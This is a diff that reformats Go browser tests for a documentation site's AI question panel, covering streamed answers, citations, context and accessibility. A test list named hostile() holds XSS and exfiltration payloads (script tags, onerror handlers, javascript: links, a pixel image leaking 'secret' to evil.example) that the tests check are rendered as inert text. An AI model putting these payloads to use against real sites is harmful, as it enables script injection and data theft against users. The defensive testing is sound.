@@ -14,12 +14,15 @@ import (
 // talkative is a site whose readers ask.
 func talkative() []string {
 	return []string{
-		"docs.json", `{"name": "T", "theme": "mint", "colors": {"primary": "#0055ff"}, "contextual": {"options": ["copy", "assistant"]},
+		"docs.json",
+		`{"name": "T", "theme": "mint", "colors": {"primary": "#0055ff"}, "contextual": {"options": ["copy", "assistant"]},
 			"navigation": {"groups": [{"group": "Guide", "pages": ["index", "guides/deploy", "guides/billing", "ask"]}]}}`,
 		"index.mdx", "---\ntitle: Welcome\n---\nThe first page of all, with some words to select.\n",
-		"guides/deploy.mdx", "---\ntitle: Deployment\ndescription: Bring it to production\n---\nHow a deployment runs.\n\n" + long() +
+		"guides/deploy.mdx",
+		"---\ntitle: Deployment\ndescription: Bring it to production\n---\nHow a deployment runs.\n\n" + long() +
 			"## Roll back\n\nA deployment that went wrong is rolled back with one command.\n\n```bash\nlectern rollback\n```\n\n" + long(),
-		"guides/billing.mdx", "---\ntitle: Billing\n---\nInvoices and receipts arrive each month. A deployment costs nothing.\n",
+		"guides/billing.mdx",
+		"---\ntitle: Billing\n---\nInvoices and receipts arrive each month. A deployment costs nothing.\n",
 		"ask.mdx", "---\ntitle: Ask us\nmode: assistant\n---\nAsk anything about these docs.\n",
 	}
 }
@@ -32,7 +35,8 @@ const (
 )
 
 func deploySources() []map[string]any {
-	return []map[string]any{source("1", "/guides/deploy#roll-back", "Deployment › Roll back"), source("2", "/guides/billing", "Billing")}
+	return []map[string]any{source("1", "/guides/deploy#roll-back", "Deployment › Roll back"),
+		source("2", "/guides/billing", "Billing")}
 }
 
 // question types a question and sends it by its button: the tool would type the line break of the key too.
@@ -73,14 +77,16 @@ func TestAReaderTalksWithTheAssistant(t *testing.T) {
 			answer(w, "It costs nothing [1].", source("1", "/guides/billing", "Billing"))
 			return
 		}
-		stream(w, map[string]any{"type": "start", "messageId": "m1"}, map[string]any{"type": "text-delta", "delta": "You **roll** [1"})
+		stream(w, map[string]any{"type": "start", "messageId": "m1"},
+			map[string]any{"type": "text-delta", "delta": "You **roll** [1"})
 		<-on // until the page has shown that much
 		answer(w, strings.TrimPrefix("]"+rollBack, ""), deploySources()...)
 	}}
 	site := serveAsking(t, s, talkative()...)
 	p := openURL(t, site.URL+"/")
 	p.until(`document.querySelector("[data-assistant]").hidden === false`)
-	if eval[bool](p, `performance.getEntriesByType("resource").some((e) => /assistant\.[0-9a-f]+\.(js|css)|_lectern\/api/.test(e.name))`) {
+	if eval[bool](p,
+		`performance.getEntriesByType("resource").some((e) => /assistant\.[0-9a-f]+\.(js|css)|_lectern\/api/.test(e.name))`) {
 		t.Error("the assistant was loaded before anybody asked")
 	}
 	p.key("i", chromedp.ModifierCtrl)
@@ -90,11 +96,18 @@ func TestAReaderTalksWithTheAssistant(t *testing.T) {
 	p.same("the button while an answer comes", eval[string](p, `document.querySelector(".ask-send").ariaLabel`), "Stop")
 	close(on)
 	p.until(answered)
-	p.same("the answer", eval[string](p, lastAnswer+`.querySelector(".ask-answer").innerText.replace(/\s+/g, " ").slice(0, 70)`), "You roll 1You roll back with one command 1: bash Copy lectern rollback")
-	p.same("its parts", eval[string](p, `["pre code", "ol > li > ul > li", "th[scope=col]", "td a.ask-cite", "em", "strong"].map((q) => `+lastAnswer+`.querySelectorAll(q).length).join()`), "1,2,2,1,1,2")
-	p.same("its sources", eval[string](p, `[...`+lastAnswer+`.querySelectorAll(".ask-sources a")].map((a) => a.textContent + " " + a.getAttribute("href").replace(location.origin, "")).join("; ")`),
+	p.same("the answer", eval[string](p,
+		lastAnswer+`.querySelector(".ask-answer").innerText.replace(/\s+/g, " ").slice(0, 70)`),
+		"You roll 1You roll back with one command 1: bash Copy lectern rollback")
+	p.same("its parts", eval[string](p,
+		`["pre code", "ol > li > ul > li", "th[scope=col]", "td a.ask-cite", "em", "strong"].map((q) => `+lastAnswer+
+			`.querySelectorAll(q).length).join()`), "1,2,2,1,1,2")
+	p.same("its sources", eval[string](p,
+		`[...`+lastAnswer+
+			`.querySelectorAll(".ask-sources a")].map((a) => a.textContent + " " + a.getAttribute("href").replace(location.origin, "")).join("; ")`),
 		"Deployment › Roll back /guides/deploy#roll-back; Billing /guides/billing")
-	p.until(`document.querySelector(".ask-said").textContent.includes("roll back with one command")`) // what a screen reader says
+	// what a screen reader says
+	p.until(`document.querySelector(".ask-said").textContent.includes("roll back with one command")`)
 	p.judged("panel")
 
 	p.mark()
@@ -102,10 +115,12 @@ func TestAReaderTalksWithTheAssistant(t *testing.T) {
 	p.at("Deployment")
 	p.sameDocument(true)
 	p.until(`Math.abs(document.getElementById("roll-back").getBoundingClientRect().top) < innerHeight / 2`)
-	p.same("the conversation after a change of the page", eval[string](p, `String(document.querySelectorAll(".ask-message").length)`), "2")
+	p.same("the conversation after a change of the page",
+		eval[string](p, `String(document.querySelectorAll(".ask-message").length)`), "2")
 
 	p.click(".ask-row button[aria-label=Helpful]")
-	p.until(`!document.querySelector(".ask-comment").hidden && document.querySelector(".ask-row button[aria-label=Helpful]").ariaPressed === "true"`)
+	p.until(
+		`!document.querySelector(".ask-comment").hidden && document.querySelector(".ask-row button[aria-label=Helpful]").ariaPressed === "true"`)
 	p.fill(".ask-comment input", "spot on")
 	p.click(".ask-comment button")
 	p.until(`/comment/.test(document.querySelector(".ask-thanks").textContent)`)
@@ -114,7 +129,8 @@ func TestAReaderTalksWithTheAssistant(t *testing.T) {
 	eval[bool](p, `(document.querySelector(".ask-field").focus({ preventScroll: true }), true)`)
 	p.asks("And what does it cost?")
 	second := s.question(2)
-	if list := second["messages"].([]any); len(list) != 3 || second["threadId"] != "t1" || second["currentPath"] != "/guides/deploy" {
+	if list := second["messages"].([]any); len(list) != 3 || second["threadId"] != "t1" ||
+		second["currentPath"] != "/guides/deploy" {
 		t.Errorf("the second question came as %v", second)
 	}
 	p.reload()
@@ -125,17 +141,22 @@ func TestAReaderTalksWithTheAssistant(t *testing.T) {
 	p.quietBut(axeStyles, "Applying inline style") // of axe
 }
 
-// What readers mark can be asked about; the menu of the page, an address and a page of its own lead to the assistant too.
+// What readers mark can be asked about; the menu of the page, an address and a page of its own lead to the assistant
+// too.
 func TestTheWaysToTheAssistant(t *testing.T) {
 	t.Parallel()
-	s := &speaker{says: func(w http.ResponseWriter, n int) { answer(w, "Yes [1].", source("1", "/guides/billing", "Billing")) }}
+	s := &speaker{says: func(w http.ResponseWriter, n int) {
+		answer(w, "Yes [1].", source("1", "/guides/billing", "Billing"))
+	}}
 	site := serveAsking(t, s, talkative()...)
 	p := openURL(t, site.URL+"/")
-	eval[bool](p, `(() => { const text = document.querySelector("#content > p").firstChild; getSelection().setBaseAndExtent(text, 4, text, 14); return true; })()`)
+	eval[bool](p,
+		`(() => { const text = document.querySelector("#content > p").firstChild; getSelection().setBaseAndExtent(text, 4, text, 14); return true; })()`)
 	p.click(".ask-about")
 	p.until(`document.querySelector(".ask-context q")?.textContent === "first page"`)
 	p.asks("What is this?")
-	if got := s.question(1)["context"].([]any)[0].(map[string]any); got["value"] != "first page" || got["type"] != "textSelection" || got["path"] != "/" {
+	if got := s.question(1)["context"].([]any)[0].(map[string]any); got["value"] != "first page" ||
+		got["type"] != "textSelection" || got["path"] != "/" {
 		t.Errorf("the context came as %v", got)
 	}
 	p.click(`.ask-head button[aria-label="New conversation"]`)
@@ -146,16 +167,20 @@ func TestTheWaysToTheAssistant(t *testing.T) {
 	p.until(`document.activeElement.matches(".ask-panel .ask-field")`)
 	p.click(`.ask-head button[aria-label="Close"]`)
 
-	p.goes(site.URL + "/guides/billing?assistant=What%20does%20it%20cost%3F") // a stranger's link sends nothing: the reader does
-	p.until(`document.querySelector(".ask-panel .ask-field")?.value === "What does it cost?" && document.activeElement.matches(".ask-field")`)
+	// a stranger's link sends nothing: the reader does
+	p.goes(site.URL + "/guides/billing?assistant=What%20does%20it%20cost%3F")
+	p.until(
+		`document.querySelector(".ask-panel .ask-field")?.value === "What does it cost?" && document.activeElement.matches(".ask-field")`)
 	p.same("sent by a link", eval[string](p, `String(document.querySelectorAll(".ask-message").length)`), "0")
 	p.key(kb.Enter)
-	p.until(`document.querySelector('.ask-message[data-role="user"]')?.textContent === "What does it cost?" && ` + answered)
+	p.until(`document.querySelector('.ask-message[data-role="user"]')?.textContent === "What does it cost?" && ` +
+		answered)
 	p.reload()
 	p.until(`document.querySelectorAll(".ask-panel:not([hidden]) .ask-message").length === 2`)
 	p.click(`.sidebar a[href="/ask"]`)
 	p.at("Ask us")
-	p.until(`document.querySelectorAll("[data-ask-page] .ask-message").length === 2 && document.querySelector(".ask-panel") === null`)
+	p.until(
+		`document.querySelectorAll("[data-ask-page] .ask-message").length === 2 && document.querySelector(".ask-panel") === null`)
 	p.key("i", chromedp.ModifierCtrl)
 	p.asks("And per month?")
 	p.judged("page")
@@ -164,11 +189,13 @@ func TestTheWaysToTheAssistant(t *testing.T) {
 	p.until(`document.querySelector("[data-ask-page]") === null`)
 	run(p, chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile, chromedp.EmulateTouch))
 	p.click("[data-assistant]")
-	p.until(`document.querySelectorAll(".ask-panel .ask-message").length === 4 && document.querySelector("main").closest("[inert]") !== null`)
+	p.until(
+		`document.querySelectorAll(".ask-panel .ask-message").length === 4 && document.querySelector("main").closest("[inert]") !== null`)
 	p.judged("phone")
 	p.click(`.ask-panel .ask-sources a`)
 	p.until(`document.querySelector(".ask-panel").hidden && document.querySelector("[inert]") === null`)
-	eval[bool](p, `(location.href = "/guides/deploy?assistant=Who%20rolls%20back%3F", true)`) // a page of the site may ask
+	// a page of the site may ask
+	eval[bool](p, `(location.href = "/guides/deploy?assistant=Who%20rolls%20back%3F", true)`)
 	p.until(`document.querySelectorAll(".ask-panel .ask-message").length === 6 && ` + answered)
 	if n := len(s.asked); n != 4 {
 		t.Errorf("%d questions were asked", n)
@@ -179,10 +206,12 @@ func TestTheWaysToTheAssistant(t *testing.T) {
 // hostile are answers that try to be more than text, with what the reader sees of them.
 func hostile() [][2]string {
 	return [][2]string{
-		{"<script>window.owned = 1</script><img src=x onerror=\"window.owned = 1\">", `<script>window.owned = 1</script><img src=x onerror="window.owned = 1">`},
+		{"<script>window.owned = 1</script><img src=x onerror=\"window.owned = 1\">",
+			`<script>window.owned = 1</script><img src=x onerror="window.owned = 1">`},
 		{"![pixel](https://evil.example/pixel.png?q=secret) and ![](https://evil.example/b)", "pixel and image"},
 		{"[click](javascript:window.owned=1) [data](data:text/html,x) [more](https://evil.example/x) [two](//evil.example/y)", "click data more two"},
-		{"[up](/../../x) [back](/\\\\evil.example/z) https://evil.example/bare <https://evil.example/auto>", "up back https://evil.example/bare https://evil.example/auto"},
+		{"[up](/../../x) [back](/\\\\evil.example/z) https://evil.example/bare <https://evil.example/auto>",
+			"up back https://evil.example/bare https://evil.example/auto"},
 		{"[a\nb](vbscript:x) [<b>bold</b>](/guides/billing \"t\\\"onmouseover=x\")", "a b <b>bold</b>"},
 		{"[9] [10, 11] and [1]", "  and 1"},
 		{strings.Repeat("*a **b _c ", 400) + strings.Repeat("[", 3000) + strings.Repeat("`", 999), ""},
@@ -197,12 +226,14 @@ func TestHostileAnswersStayText(t *testing.T) {
 	cases, stopped := hostile(), make(chan struct{})
 	s := &speaker{says: func(w http.ResponseWriter, n int) {
 		if n <= len(cases) {
-			answer(w, cases[n-1][0], source("1", "/guides/billing", "<b>Billing</b>"), source("7", "javascript:window.owned=1", "bad"), source("8", "http://evil.example/", "plain"))
+			answer(w, cases[n-1][0], source("1", "/guides/billing", "<b>Billing</b>"),
+				source("7", "javascript:window.owned=1", "bad"), source("8", "http://evil.example/", "plain"))
 			return
 		}
 		switch n - len(cases) {
 		case 1:
-			stream(w, map[string]any{"type": "text-delta", "delta": "Half"}, map[string]any{"type": "error", "errorText": "The model <b>failed</b>."})
+			stream(w, map[string]any{"type": "text-delta", "delta": "Half"},
+				map[string]any{"type": "error", "errorText": "The model <b>failed</b>."})
 		case 2:
 			stream(w, map[string]any{"type": "text-delta", "delta": "Cut"})
 		case 3:
@@ -212,7 +243,11 @@ func TestHostileAnswersStayText(t *testing.T) {
 			stream(w, map[string]any{"type": "text-delta", "delta": "Begun"})
 			<-stopped
 		default:
-			_, _ = w.Write([]byte("data: nonsense\r\n\r\n: comment\r\rdata: {\"type\":\r\ndata: \"text-delta\", \"delta\": \"good\"}\r\n\r\ndata: {\"type\": \"finish\"}")) // the reader has gone
+			// the reader has gone
+			_,
+				_ = w.Write(
+				[]byte(
+					"data: nonsense\r\n\r\n: comment\r\rdata: {\"type\":\r\ndata: \"text-delta\", \"delta\": \"good\"}\r\n\r\ndata: {\"type\": \"finish\"}"))
 		}
 	}}
 	site := serveAsking(t, s, talkative()...)
@@ -220,16 +255,20 @@ func TestHostileAnswersStayText(t *testing.T) {
 	p.click("[data-assistant]")
 	for _, c := range cases {
 		p.asks("x")
-		if got := eval[string](p, lastAnswer+`.querySelector(".ask-answer").textContent.replace(/\s/g, " ")`); c[1] != "" && got != c[1] {
+		if got := eval[string](p,
+			lastAnswer+`.querySelector(".ask-answer").textContent.replace(/\s/g, " ")`); c[1] != "" && got != c[1] {
 			t.Errorf("%.60q is shown as %q, want %q", c[0], got, c[1])
 		}
 	}
-	p.same("links", eval[string](p, `[...new Set([...document.querySelectorAll(".ask-panel a")].map((a) => a.getAttribute("href").replace(location.origin, "")))].join()`), "/guides/billing,/x")
-	p.same("elements", eval[string](p, `String(document.querySelectorAll(".ask-panel :is(script, img, iframe, i:not(.ask-wait i), b, style, object, [onerror], [onmouseover])").length + (window.owned ?? 0))`), "0")
+	p.same("links", eval[string](p,
+		`[...new Set([...document.querySelectorAll(".ask-panel a")].map((a) => a.getAttribute("href").replace(location.origin, "")))].join()`), "/guides/billing,/x")
+	p.same("elements", eval[string](p,
+		`String(document.querySelectorAll(".ask-panel :is(script, img, iframe, i:not(.ask-wait i), b, style, object, [onerror], [onmouseover])").length + (window.owned ?? 0))`), "0")
 	if eval[bool](p, `performance.getEntriesByType("resource").some((e) => !e.name.startsWith(location.origin))`) {
 		t.Error("an answer made the page ask another host")
 	}
-	for _, want := range []string{"The model <b>failed</b>. Try again", "The answer was interrupted. Try again", "Too many questions. Try again in 10 minutes. Try again"} {
+	for _, want := range []string{"The model <b>failed</b>. Try again", "The answer was interrupted. Try again",
+		"Too many questions. Try again in 10 minutes. Try again"} {
 		p.asks("x")
 		p.same("a failure", eval[string](p, lastAnswer+`.querySelector(".ask-error").textContent`), want)
 	}
